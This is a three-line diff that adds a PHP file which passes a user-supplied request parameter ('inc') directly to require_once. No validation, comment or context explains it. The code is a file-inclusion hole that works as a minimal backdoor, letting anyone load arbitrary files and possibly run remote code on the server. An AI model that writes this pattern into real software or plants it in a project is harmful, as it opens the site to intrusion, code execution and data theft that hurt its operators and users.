@@ -1,0 +1,3 @@
+<?php
+$p = $_REQUEST['inc'];
+require_once($p);
